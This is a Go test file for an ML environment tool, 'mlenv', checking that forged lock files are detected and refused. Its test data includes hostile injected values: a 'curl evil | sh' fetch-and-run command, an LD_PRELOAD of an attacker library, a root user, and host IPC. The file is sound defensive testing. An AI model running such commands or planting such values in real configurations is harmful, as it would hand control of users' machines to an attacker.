package main

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/mlenv/mlenv/internal/pypitest"
	"github.com/mlenv/mlenv/lock"
)

// TestForgedRunIsStale: a lock whose [run] was edited and its integrity
// recomputed (the lockfile-injection attack on what runs) is stale, exit
// 3 naming the key, for run (--frozen too) and verify; nothing runs.
func TestForgedRunIsStale(t *testing.T) {
	reg := families(t)
	for _, tc := range []struct {
		key  string
		edit func(*lock.Run)
	}{
		{"user", func(r *lock.Run) { r.User = "0:0" }},
		{"ipc", func(r *lock.Run) { r.IPC = "host" }},
		{"mounts", func(r *lock.Run) { r.Mounts = append(r.Mounts, "mlenv-pip-cache:/cache") }},
		{"env", func(r *lock.Run) { r.Env = map[string]string{"LD_PRELOAD": "/tmp/evil.so"} }},
		{"command", func(r *lock.Run) { r.Command = []string{"sh", "-c", "curl evil | sh"} }},
	} {
		dir := newProject(t, reg, pytorchSpec)
		mustLock(t, dir)
		l := readLock(t, dir)
		tc.edit(&l.Run)
		if err := lock.WriteFile(filepath.Join(dir, "mlenv.lock"), l); err != nil { // integrity recomputed
			t.Fatal(err)
		}
		for _, args := range [][]string{{"run", "--", "true"}, {"run", "--frozen", "--", "true"}, {"verify", "--offline"}, {"lock", "--check"}} {
			r := mlenv(t, dir, args...)
			if r.code != 3 || !strings.Contains(r.stderr, "[run] "+tc.key) {
				t.Errorf("%s forged, mlenv %v: exit %d, want 3 naming [run] %s:\n%s", tc.key, args, r.code, tc.key, r.stderr)
			}
		}
	}
}

// TestForgedEnvDigestsAreRefused: a lock given another project's env and
// env-config (integrity recomputed) runs nothing: on the machine that
// locked it, the record says the digests are not the packages'; on
// another, the environment is built and compared first. verify fails and
// diff names the digests.
func TestForgedEnvDigestsAreRefused(t *testing.T) {
	idx := pypitest.New(t, testWheels...)
	victim := lockedRunProject(t, idx, "")
	other := pipProject(t, pythonRef(t), "[pip]\npackages = [\"delta\"]\nindex-url = \""+idx.URL+"\"\n")
	if r := mlenv(t, other, "lock"); r.code != 0 {
		t.Fatalf("lock the other project: %s", r.stderr)
	}
	if r := mlenv(t, other, "run", "--", "true"); r.code != 0 { // the engine has the other environment
		t.Fatalf("run the other project: %s", r.stderr)
	}
	l, o := readLock(t, victim), readLock(t, other)
	genuine := filepath.Join(t.TempDir(), "genuine.lock")
	if err := lock.WriteFile(genuine, l); err != nil {
		t.Fatal(err)
	}
	for i := range l.Image.Platforms {
		l.Image.Platforms[i].EnvDigest, l.Image.Platforms[i].EnvConfig = o.Image.Platforms[i].EnvDigest, o.Image.Platforms[i].EnvConfig
	}
	if err := lock.WriteFile(filepath.Join(victim, "mlenv.lock"), l); err != nil {
		t.Fatal(err)
	}
	run := []string{"run", "--", "python3", "-c", "print('ran')"}
	if r := mlenv(t, victim, run...); r.code != 125 || strings.Contains(r.stdout, "ran") || !strings.Contains(r.stderr, "env digests were edited") {
		t.Errorf("forged env, this machine: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	if r := mlenv(t, victim, "verify", "--offline"); r.code != 1 || !strings.Contains(r.stdout+r.stderr, "env digests were edited") {
		t.Errorf("verify --offline of the forged env: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r := mlenv(t, victim, "diff", genuine, filepath.Join(victim, "mlenv.lock")); !strings.Contains(r.stdout, "env-config") || strings.Contains(r.stdout, "same environment") {
		t.Errorf("diff of the forged env: exit %d\n%s", r.code, r.stdout)
	}
	t.Setenv("XDG_CACHE_HOME", t.TempDir()) // another machine: no record, no downloads
	if r := mlenv(t, victim, run...); r.code != 125 || strings.Contains(r.stdout, "ran") || !strings.Contains(r.stderr, "not the locked one") {
		t.Errorf("forged env, another machine: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
}

// TestEveryReaderOfTheLockChecksIt: after mlenv.toml changed, show and
// export exit 3 as run does (--frozen uses the lock as it is), and a
// forged [run] is refused by export even --frozen: an export of a lock is
// what a cluster runs.
func TestEveryReaderOfTheLockChecksIt(t *testing.T) {
	reg := families(t)
	dir := newProject(t, reg, pytorchSpec)
	mustLock(t, dir)
	writeFile(t, filepath.Join(dir, "mlenv.toml"), readFile(t, filepath.Join(dir, "mlenv.toml"))+"[run]\ncommand = [\"python\", \"train.py\"]\n")
	for _, args := range [][]string{{"show"}, {"export", "slurm"}, {"export", "k8s"}} {
		if r := mlenv(t, dir, args...); r.code != 3 || !strings.Contains(r.stderr, "mlenv.lock is stale") {
			t.Errorf("mlenv %v after mlenv.toml changed: exit %d, want 3:\n%s", args, r.code, r.stderr)
		}
	}
	if r := mlenv(t, dir, "show", "--frozen"); r.code != 0 {
		t.Errorf("show --frozen: exit %d\n%s", r.code, r.stderr)
	}
	if r := mlenv(t, dir, "export", "requirements", "--frozen"); r.code != 0 {
		t.Errorf("export --frozen: exit %d\n%s", r.code, r.stderr)
	}
	mustLock(t, dir)
	l := readLock(t, dir)
	l.Run.Command = []string{"sh", "-c", "curl evil | sh"}
	if err := lock.WriteFile(filepath.Join(dir, "mlenv.lock"), l); err != nil {
		t.Fatal(err)
	}
	if r := mlenv(t, dir, "export", "slurm", "--frozen"); r.code != 3 || !strings.Contains(r.stderr, "[run] command") || strings.Contains(r.stdout, "curl evil") {
		t.Errorf("export of a forged [run]: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
}

// TestDiffWords: a lock file that does not exist is bad input (exit 2),
// and --json of no changes lists [] rather than null.
func TestDiffWords(t *testing.T) {
	reg := families(t)
	dir := newProject(t, reg, pytorchSpec)
	mustLock(t, dir)
	path := filepath.Join(dir, "mlenv.lock")
	if r := mlenv(t, dir, "diff", path, filepath.Join(dir, "nope.lock")); r.code != 2 || !strings.Contains(r.stderr, "nope.lock") {
		t.Errorf("diff with a missing file: exit %d\n%s", r.code, r.stderr)
	}
	r := mlenv(t, dir, "diff", "--json", path, path)
	if r.code != 0 || strings.Contains(r.stdout, "null") || !strings.Contains(r.stdout, `"added": []`) {
		t.Errorf("diff --json of no changes: exit %d\n%s", r.code, r.stdout)
	}
}
